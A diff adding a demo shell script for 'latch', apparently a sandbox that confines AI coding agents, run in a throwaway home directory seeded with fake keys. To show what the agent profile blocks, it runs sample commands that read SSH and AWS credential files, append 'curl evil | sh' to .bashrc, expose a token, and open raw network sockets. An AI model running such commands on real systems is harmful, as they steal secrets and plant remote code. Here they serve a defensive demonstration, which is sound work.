@@ -1,0 +1,35 @@
+#!/bin/sh
+# `make demo`: latch confining real commands with the built-in agent profile,
+# in a throwaway HOME holding fake credentials (your own files are untouched).
+set -u
+latch=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
+demo=$(mktemp -d /tmp/latch-demo.XXXXXX)
+trap 'rm -rf "$demo"' EXIT
+export HOME="$demo/home" TMPDIR="$demo/tmp"
+unset XDG_CONFIG_HOME XDG_CACHE_HOME XDG_DATA_HOME XDG_STATE_HOME
+mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/project" "$TMPDIR"
+echo "-----BEGIN FAKE KEY----- demo-secret" >"$HOME/.ssh/id_rsa"
+chmod 600 "$HOME/.ssh/id_rsa"
+printf '[default]\naws_secret_access_key = demo-secret\n' >"$HOME/.aws/credentials"
+echo 'echo hello' >"$HOME/.bashrc"
+cd "$HOME/project" || exit 1
+
+step() {
+	printf '\n\033[1m$ %s\033[0m\n' "$*"
+	"$@"
+	printf '\033[2m(exit status %d)\033[0m\n' "$?"
+}
+
+echo "latch demo: HOME=$HOME, working in $PWD"
+echo "The agent profile: read the system and toolchains, read/write the project"
+echo "and a private tmp; credentials, shell configs and history denied; no network."
+step "$latch" why -p agent read "$HOME/.ssh/id_rsa"
+step "$latch" run -p agent -- sh -c 'cat ~/.ssh/id_rsa'
+step "$latch" run -p agent -- sh -c 'cat ~/.aws/credentials'
+step "$latch" why -p agent write "$PWD/build.log"
+step "$latch" run -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
+step "$latch" run -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
+step env GITHUB_TOKEN=ghp_demo "$latch" run -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
+step "$latch" run -p agent -- sh -c 'echo > /dev/tcp/127.0.0.1/80 2>&1; python3 -c "import socket; socket.socket()" 2>&1 | tail -n 1'
+printf '\nThe project file written from inside the sandbox:\n'
+ls -l "$HOME/project"
